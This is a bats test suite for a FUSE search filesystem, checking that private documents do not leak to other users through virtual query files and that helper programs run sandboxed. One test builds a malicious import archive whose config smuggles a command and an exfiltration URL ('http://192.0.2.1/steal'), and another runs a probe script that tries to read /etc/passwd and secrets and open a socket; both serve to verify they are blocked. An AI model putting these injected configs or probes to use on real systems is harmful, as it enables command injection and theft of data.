#!/usr/bin/env bats
# Who may see what, and what the daemon can do at all (fs/doc/threats.md).

load setup
bats_require_minimum_version 1.5.0

A=12345 # another user
B=12346

as() {
	setpriv --reuid "$1" --regid "$1" --clear-groups "${@:2}"
}

setup() {
	MNT=$BATS_TEST_TMPDIR/mnt
	BACKING=$BATS_TEST_TMPDIR/backing
	mkdir "$MNT"
	# others must get to the mount point
	local d=$BATS_TEST_TMPDIR
	until [[ $d == / ]]; do
		chmod o+x "$d"
		d=$(dirname "$d")
	done
	start -o allow_other
	chmod 755 "$MNT"
}

# every virtual file that speaks of documents
virtual_files() {
	printf '%s\n' "query/$1" "query/$1 as:json" "query/mode:vector $1" \
		"query/$1 as:paths" "query/~$1" "query//${1:0:4}/" "recall/$1" \
		.rankfs/{status,status.json,progress,warnings,metrics,config,events,export} \
		".rankfs/chunks/secret.md/1" .rankfs/text/secret.md ".rankfs/symbols/$1" .rankfs/similar/secret.md \
		".rankfs/terms/${1:0:3}/$1" \
		".rankfs/at/1/query/$1"
}

# refused_to USER WORD: nothing, not even an empty answer with its counts
refused_to() {
	local f
	while read -r f; do
		run --separate-stderr as "$1" cat "$MNT/$f"
		assert_failure
		assert_output ""
	done < <(virtual_files "$2")
	for f in query "find/$2" find .rankfs .rankfs/chunks .rankfs/text .rankfs/symbols .rankfs/similar .rankfs/terms ".rankfs/terms/${2:0:3}"; do
		run --separate-stderr as "$1" ls "$MNT/$f"
		assert_failure
		assert_output ""
	done
	run --separate-stderr as "$1" bash -c 'exec 9<>"$1" && echo "$2" >&9 && cat <&9' _ "$MNT/.rankfs/ask" "$2"
	assert_failure
	assert_output ""
}

@test "others see answers while they may read every document" {
	echo "purple yak" >"$MNT/a.md"
	run as $A cat "$MNT/query/yak"
	assert_output --partial a.md
	run as $A ls "$MNT/find/yak"
	assert_output --partial a.md
	run as $A cat "$MNT/.rankfs/status"
	assert_output --partial "documents 1"
}

@test "one document that others may not read: no virtual file tells them anything" {
	echo "purple yak" >"$MNT/a.md"
	echo "zanzibar" >"$MNT/secret.md"
	run as $A cat "$MNT/query/zanzibar"
	assert_output --partial secret.md
	chmod 600 "$MNT/secret.md"
	refused_to $A zanzibar
	run cat "$MNT/query/zanzibar"
	assert_output --partial secret.md
	chmod 644 "$MNT/secret.md"
	run as $A cat "$MNT/query/yak"
	assert_output --partial a.md
}

@test "what somebody has open already tells no more once one document is private" {
	echo "zanzibar" >"$MNT/secret.md"
	mkdir "$MNT/cache"
	echo "cache_dir cache" >"$MNT/.rankfs/config"
	echo "zanzibar" >"$MNT/cache/zanzibar"
	echo checkpoint >"$MNT/.rankfs/ctl"
	local user pid to line
	for user in $A 0; do
		coproc HELD { as "$user" /usr/bin/python3 -c "$(<"$BATS_TEST_DIRNAME/held.py")" "$MNT" zanzibar 2>&1; }
		pid=$HELD_PID to=${HELD[1]}
		read -rt 30 line <&"${HELD[0]}"
		assert_equal "$line" "all open"
		chmod 600 "$MNT/secret.md"
		echo >&"${HELD[1]}"
		read -rt 30 line <&"${HELD[0]}"
		if ((user)); then
			assert_equal "$line" "told nothing"
		else
			assert_equal "$line" "told: all" # it is his
		fi
		chmod 644 "$MNT/secret.md"
		echo >&"${HELD[1]}"
		read -rt 30 line <&"${HELD[0]}"
		assert_equal "$line" "told: all"
		exec {to}>&-
		wait "$pid"
	done
}

@test "a folder that others may not enter, a document moved into it, one made with a narrow mode" {
	mkdir "$MNT/d"
	echo "zanzibar" >"$MNT/d/secret.md"
	chmod 711 "$MNT/d"
	refused_to $A zanzibar
	chmod 755 "$MNT/d"
	run as $A cat "$MNT/query/zanzibar"
	assert_success
	(umask 077 && echo "quetzal" >"$MNT/new.md")
	refused_to $A quetzal
	rm "$MNT/new.md"
	run as $A cat "$MNT/query/zanzibar"
	assert_success
	(umask 077 && echo "quetzal" >"$MNT/.new.md.swp")
	run as $A cat "$MNT/query/zanzibar"
	assert_success
	mv "$MNT/.new.md.swp" "$MNT/new.md"
	refused_to $A quetzal
}

@test "another name, or another folder's name, does not open what an ignored one kept" {
	echo "purple yak" >"$MNT/a.md"
	(umask 077 && echo "quetzal" >"$MNT/secret.tmp")
	run as $A cat "$MNT/query/yak"
	assert_success
	ln "$MNT/secret.tmp" "$MNT/secret.md"
	refused_to $A quetzal
	rm "$MNT/secret.md"
	run as $A cat "$MNT/query/yak"
	assert_success
	ln "$MNT/a.md" "$MNT/a.tmp"
	chmod 600 "$MNT/a.tmp"
	refused_to $A yak
	chmod 644 "$MNT/a.tmp"
	mkdir "$MNT/.git"
	(umask 077 && echo "quetzal" >"$MNT/.git/secret.md")
	run as $A cat "$MNT/query/yak"
	assert_success
	mv "$MNT/.git" "$MNT/open"
	refused_to $A quetzal
}

@test "what is known before the mount counts, too" {
	echo "zanzibar" >"$MNT/secret.md"
	chmod 600 "$MNT/secret.md"
	stop
	start -o allow_other
	refused_to $A zanzibar
}

@test "a user's own document is not for a third" {
	chmod 777 "$MNT"
	as $A sh -c 'umask 077; echo zanzibar >"$1"' _ "$MNT/secret.md"
	refused_to $B zanzibar
	assert_equal "$(paths zanzibar)" secret.md
}

@test "a root for one group: its members see what all of them may read" {
	chown 0:$A "$MNT" && chmod 750 "$MNT"
	(umask 077 && echo "purple yak" >"$MNT/a.md")
	run as $A cat "$MNT/query/yak"
	assert_failure
	chgrp $A "$MNT/a.md" && chmod 640 "$MNT/a.md"
	run as $A cat "$MNT/query/yak"
	assert_output --partial a.md
	run as $B ls "$MNT"
	assert_failure
}

@test "a linked source is for who mounted alone" {
	mkdir "$BATS_TEST_TMPDIR/src"
	echo "zanzibar" >"$BATS_TEST_TMPDIR/src/secret.md"
	ln -s "$BATS_TEST_TMPDIR/src" "$MNT/src"
	refused_to $A zanzibar
	eventually 10 found zanzibar
}

found() { [[ -n $(paths "$1") ]]; }

@test "old checkpoints and lists of what went are for their owner" {
	echo "zanzibar" >"$MNT/secret.md"
	chmod 600 "$MNT/secret.md"
	echo checkpoint >"$MNT/.rankfs/ctl"
	rm "$MNT/secret.md"
	run as $A cat "$MNT/query/zanzibar"
	refute_output --partial secret.md
	for f in warnings events export at; do
		run as $A sh -c 'cat "$1" 2>/dev/null || ls "$1"/*' _ "$MNT/.rankfs/$f"
		refute_output --partial secret.md
	done
}

@test "many indexes: one with a wall is not in another's answer" {
	stop
	BACKING=$BATS_TEST_TMPDIR/many
	start -o multi,allow_other
	for x in one two; do
		mkdir -m 755 "$MNT/$x"
		echo "zanzibar $x" >"$MNT/$x/secret.md"
	done
	run as $A cat "$MNT/query/zanzibar"
	assert_output --partial "hits=2/2"
	chmod 600 "$MNT/one/secret.md"
	run as $A cat "$MNT/query/zanzibar"
	assert_output --partial "hits=1/1"
	refute_output --partial one
	run as $A cat "$MNT/one/query/zanzibar"
	assert_failure
	run cat "$MNT/query/zanzibar"
	assert_output --partial "hits=2/2"
}

@test "an archive from elsewhere brings no command and no server" {
	mkdir -p "$BATS_TEST_TMPDIR/x"
	cat "$MNT/.rankfs/export" >"$BATS_TEST_TMPDIR/good.tar.zst"
	cd "$BATS_TEST_TMPDIR/x"
	zstd -dc ../good.tar.zst | tar xf -
	printf 'hits 7\nextract.*.zzz /bin/touch %s/owned\nembedder http://192.0.2.1/steal\n' "$BATS_TEST_TMPDIR" >config
	mkdir -p files && printf 'x\0' >files/a.zzz
	first=$(zstd -dc ../good.tar.zst | tar tf - | head -1)
	tar cf - "$first" config files/a.zzz | zstd -q >../evil.tar.zst
	run cp ../evil.tar.zst "$MNT/.rankfs/import"
	assert_success
	run cat "$MNT/.rankfs/config"
	assert_output --partial "hits 7"
	refute_output --partial owned
	refute_output --partial 192.0.2.1
	eventually 10 indexed
	assert_not_exist "$BATS_TEST_TMPDIR/owned"
	run cat "$MNT/.rankfs/warnings"
	assert_output --partial "left out: extract."
}

@test "the daemon gives up what it does not need" {
	run cat "/proc/$(daemon_pid)/status"
	assert_line --regexp 'NoNewPrivs:.1$'
	assert_line --regexp 'Seccomp:.2$'
	# CAP_SYS_MODULE 16, SYS_RAWIO 17, SYS_BOOT 22, NET_ADMIN 12, NET_RAW 13, SYS_CHROOT 18
	cap=0x$(sed -n 's/^CapEff:.//p' <<<"$output")
	bnd=0x$(sed -n 's/^CapBnd:.//p' <<<"$output")
	for c in 12 13 16 17 18 22; do
		assert_equal $(((cap | bnd) >> c & 1)) 0
	done
}

@test "helpers cannot gain rights, and have limits" {
	cat >"$BATS_TEST_TMPDIR/x" <<-'SH'
	#!/bin/sh
	setpriv --dump
	ulimit -v; ulimit -n; ulimit -c
	SH
	chmod 755 "$BATS_TEST_TMPDIR/x"
	echo "extract.*.zzz $BATS_TEST_TMPDIR/x {}" >"$MNT/.rankfs/config"
	printf 'PK\0\0' >"$MNT/a.zzz"
	run cat "$MNT/.rankfs/chunks/a.zzz/1"
	assert_line --regexp 'no_new_privs: 1'
	assert_line 64
	refute_line unlimited
}

# what a program that is given a document finds it can do: TRY prints one word
try_everything() {
	cat >"$BATS_TEST_TMPDIR/try" <<-SH
	#!/bin/sh
	cat
	echo "user \$(id -u) \$(id -G)"
	cat /etc/passwd >/dev/null 2>&1 && echo read-etc
	cat "$BATS_TEST_TMPDIR/secret" 2>/dev/null
	cat "$MNT"/*.md 2>/dev/null
	ls / >/dev/null 2>&1 && echo list-root
	ls /proc >/dev/null 2>&1 && echo list-proc
	echo x 2>/dev/null >"/tmp/rankfs-$$" && echo write-tmp
	echo x 2>/dev/null >"$BATS_TEST_TMPDIR/owned" && echo write-here
	ls /usr/bin >/dev/null && echo list-usr
	python3 -c 'import socket
	try: socket.create_connection(("127.0.0.1", $1), 1); print("connected")
	except PermissionError: print("tcp-refused")'
	SH
	sed -i 's/^\t//' "$BATS_TEST_TMPDIR/try"
	chmod 755 "$BATS_TEST_TMPDIR/try"
}

@test "a helper program reads what is installed and its document, and nothing else" {
	[[ $(cat "$MNT/.rankfs/status") == *"sandbox landlock "* ]] || skip "this kernel has no Landlock"
	python3 -c 'import socket, sys, time
s = socket.create_server(("127.0.0.1", 0)); print(s.getsockname()[1], flush=True); s.accept()' >"$BATS_TEST_TMPDIR/port" 3>&- &
	server=$!
	eventually 10 test -s "$BATS_TEST_TMPDIR/port"
	try_everything "$(cat "$BATS_TEST_TMPDIR/port")"
	echo secret >"$BATS_TEST_TMPDIR/secret"
	echo other >"$MNT/other.md"
	echo "extract.*.zzz $BATS_TEST_TMPDIR/try" >"$MNT/.rankfs/config"
	printf 'the document\n' >"$MNT/a.zzz"
	run cat "$MNT/.rankfs/text/a.zzz"
	kill "$server"
	assert_output - <<-END
		the document
		user 0 0
		list-usr
		tcp-refused
	END
}

@test "helper programs for an index that is another user's run as that user" {
	cat >"$BATS_TEST_TMPDIR/try" <<-'SH'
	#!/bin/sh
	echo "user $(id -u) $(id -G)"
	cat "$1"
	SH
	chmod 755 "$BATS_TEST_TMPDIR/try"
	echo "extract.*.zzz $BATS_TEST_TMPDIR/try {}" >"$MNT/.rankfs/config"
	chown $A:$A "$MNT"
	echo text >"$MNT/a.zzz"
	chmod 600 "$MNT/a.zzz"
	run cat "$MNT/.rankfs/text/a.zzz"
	assert_output "user $A $A
text"
}
